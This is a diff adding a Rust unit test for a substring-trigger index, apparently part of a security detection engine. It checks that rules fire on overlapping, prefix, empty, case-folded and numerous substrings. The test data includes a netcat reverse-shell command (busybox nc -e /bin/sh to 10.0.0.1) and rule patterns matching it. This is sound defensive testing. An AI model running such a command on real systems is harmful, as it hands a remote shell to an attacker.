@@ -622,6 +622,37 @@ mod tests {
         assert!(!fires(json!([{"names": names[..137]}]), &event));
     }
 
+    /// Rules' substrings meet one event's text: each rule fires exactly
+    /// when one of its own occurs, through overlaps, prefixes of one
+    /// another, the empty string and a hundred of them.
+    #[test]
+    fn each_rule_fires_on_its_own_substrings() {
+        let lists = [
+            json!(["nc -e", "nc -"]),
+            json!(["-e /bin/s", "/bin/sh 10"]),
+            json!(["sh 10.0.0.2"]),
+            json!([""]),
+            json!((0..100).map(|i| format!("x{i}y")).collect::<Vec<_>>()),
+            json!(["X99Y", "x99y"]),
+        ];
+        let rules: Vec<Triggers> = (lists.iter())
+            .map(|l| Triggers::parse(&json!({"triggers": [{"substrings": l}]}), "r:1").unwrap())
+            .collect();
+        let lower =
+            Triggers::parse(&json!({"triggers": [{"lower_substrings": ["x99y"]}]}), "r:1").unwrap();
+        let index = TriggerIndex::new(rules.iter().chain([&lower]));
+        let fired = |event: &Value| -> Vec<bool> {
+            let facts = index.facts(event);
+            (0..=rules.len()).map(|i| index.fires(i, &facts)).collect()
+        };
+        let nc = exec("/bin/busybox", &["nc", "-e", "/bin/sh", "10.0.0.1"]);
+        assert_eq!(fired(&nc), [true, true, false, true, false, false, false]);
+        let many = exec("/bin/echo", &["echo", "aX99Yb"]);
+        assert_eq!(fired(&many), [false, false, false, true, false, true, true]);
+        let lower_only = exec("/bin/echo", &["echo", "ax99yb"]);
+        assert_eq!(fired(&lower_only), [false, false, false, true, true, true, true]);
+    }
+
     #[test]
     fn malformed_triggers_name_the_rule_and_the_alternative() {
         let err = |value: Value| {
